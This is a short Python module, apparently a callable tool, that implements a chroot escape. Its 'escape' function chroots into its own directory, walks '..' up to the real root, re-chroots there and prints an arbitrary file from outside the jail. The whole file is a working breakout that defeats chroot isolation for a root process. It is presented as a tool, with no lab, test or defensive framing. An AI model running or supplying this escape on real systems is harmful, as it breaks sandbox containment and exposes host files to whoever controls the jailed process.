"""The way out of a chroot."""

import os

HERE = os.path.dirname(os.path.abspath(__file__))


def escape(arguments):
    """Print a file of the outside, from inside a chroot; arguments: [its path]. Returns 0.

    The root is a wall for `..` only where the walk meets it. So the root is moved further down, to
    HERE, while this process stands above it; from there, nothing stops the walk.
    """
    (path,) = arguments
    os.chdir("/")
    os.chroot(HERE)
    while not os.path.samefile(".", ".."):  # only the real root is its own parent
        os.chdir("..")
    os.chroot(".")
    with open(path) as file:
        print(file.read(), end="")
    return 0


VERBS = {"escape": escape}
